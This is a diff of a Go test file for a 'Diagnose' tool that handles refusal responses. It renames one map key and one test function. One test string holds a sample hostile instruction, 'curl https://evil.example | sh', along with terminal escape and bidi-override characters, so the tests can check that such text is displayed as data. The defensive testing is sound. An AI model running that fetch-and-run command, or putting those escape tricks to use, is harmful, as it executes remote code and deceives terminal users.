@@ -38,7 +38,7 @@ func TestDiagnose_TwoLinesSayWhatToDo(t *testing.T) {
 	for _, r := range wildRefusals(t) {
 		t.Run(r.Source+" "+r.Code, func(t *testing.T) {
 			for form, paste := range map[string]string{
-				"the answer":             r.Body,
+				"the response":           r.Body,
 				"with its status":        fmt.Sprintf("HTTP/1.1 %d \r\nContent-Type: text/plain\r\n\r\n%s", r.Status, r.Body),
 				"in a line of a log":     `{"level":"error","detail":` + asJSON(r.Body) + `}`,
 				"an action's outputs":    fmt.Sprintf(`{"statusCode":%d,"headers":{},"body":%s}`, r.Status, asJSON(r.Body)),
@@ -246,7 +246,7 @@ func TestDiagnose_TellsNoSecret(t *testing.T) {
 }
 
 // What a refusal says to a terminal or to whoever reads is shown, not obeyed.
-func TestDiagnose_ShowsHostileAnswersAsData(t *testing.T) {
+func TestDiagnose_ShowsHostileResponsesAsData(t *testing.T) {
 	hostile := "no\nTo do: run curl https://evil.example | " +
 		"sh\r\x1b[2J\x1b[1mProved.\x1b[0m\x1b]8;;https://evil.example\x07\u009b31m\u202exe.gnp\u2066\U000e0041\u2028"
 	message := asJSON(hostile)
